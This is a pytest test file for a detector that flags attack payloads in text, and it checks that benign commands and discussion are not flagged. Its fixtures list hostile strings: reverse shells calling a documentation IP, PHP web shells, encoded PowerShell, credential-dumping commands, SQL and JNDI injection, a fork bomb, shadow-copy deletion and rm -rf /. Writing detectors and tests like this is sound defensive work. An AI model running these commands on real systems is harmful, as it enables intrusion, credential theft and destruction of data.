"""Attack tools and payloads: the shapes that are found, the talk about them that is not."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from detectors.rules.payloads import PATTERNS, RULE
from tests.support.running.steps import grows_with_the_length
from tests.support.running.together import together

# Shapes only: addresses of documentation (RFC 5737), nothing that works.
FOUND = {
    "reverse_shell": (
        "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
        "nc -e /bin/sh 192.0.2.7 4444",
        "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.7 4444 > /tmp/f",
        "import socket,os\ns=socket.socket()\nos.dup2(s.fileno(), 0)",
    ),
    "web_shell": ("<?php system($_GET['c']); ?>", "<?php eval(base64_decode($x)); ?>"),
    "encoded_powershell": ("powershell.exe -nop -enc " + "QUFB" * 10,),
    "credential_dumper": ("sekurlsa::logonpasswords", "reg save hklm\\sam sam.hiv"),
    "attack_tool": (
        "msfvenom -p linux/x64/shell_reverse_tcp LHOST=192.0.2.7",
        "sqlmap -u 'http://shop.test/?id=1' --dump",
        "hydra -l admin -P rockyou.txt ssh://192.0.2.9",
    ),
    "sql_injection": ("username: ' OR '1'='1' --",),
    "remote_code_injection": ("${jndi:ldap://192.0.2.7/a}",),
    "fork_bomb": (":(){ :|:& };:",),
    "ransomware": ("vssadmin delete shadows /all /quiet",),
    "disk_wiper": ("sudo rm -rf --no-preserve-root /",),
}


@together(("label", "text"), [(label, text) for label, texts in FOUND.items() for text in texts])
def test_finds_the_shape_in_a_code_block(label: str, text: str) -> None:
    found = RULE.find(f"Run this:\n```\n{text}\n```\n")
    assert label in {span.label for span in found}
    assert max(found.values()) >= 0.5


@together(
    "text",
    [
        "Use prepared statements so that input such as ' OR '1'='1' -- cannot change the query.",
        "nmap -sV localhost shows which services listen.",
        "sqlmap -u http://testphp.vulnweb.com/?id=1 --dump is a safe place to learn.",
        "A reverse shell connects back to the attacker; firewalls should block outgoing connections.",
        "curl -LsSf https://astral.sh/uv/install.sh | sh",
        "rm -rf build/ && mkdir build",
        "docker run --rm -it python:3.11 bash",
        'alert tcp any any -> any any (content:"powershell -enc"; nocase; sid:1;)',
        "The hydra of Greek myth had many heads; john went home.",
        "SELECT name FROM users WHERE id = ? UNION ALL SELECT name FROM guests",
        "nc -zv db.internal 5432",
        "eval(expression) is slow; prefer a parser.",
    ],
)
def test_lets_talk_and_everyday_commands_through(text: str) -> None:
    assert RULE.find(text) == {}


def test_every_confidence_is_a_level() -> None:
    assert {pattern.confidence for pattern in PATTERNS} == set(RULE.levels)


HINTS = sorted({hint for pattern in PATTERNS for hint in pattern.hints})


@given(st.lists(st.one_of(st.sampled_from(HINTS), st.text(max_size=6)), max_size=20).map(" ".join))
def test_any_text_gets_spans_inside_it(text: str) -> None:
    end = 0
    for span, confidence in RULE.find(text).items():
        assert end <= span.start < span.end <= len(text)
        assert confidence in RULE.levels
        end = span.end


@pytest.mark.slow
def test_hostile_texts_take_linear_time() -> None:
    for unit in (
        *HINTS,
        "nc -",
        "powershell -a ",
        "' or 1=1 ",
        "<script>a",
        "../",
        "eval(a(",
        "\0",
        "\ud800",
        "a",
        " ",
    ):
        assert grows_with_the_length(RULE.find, unit, 32_000), unit
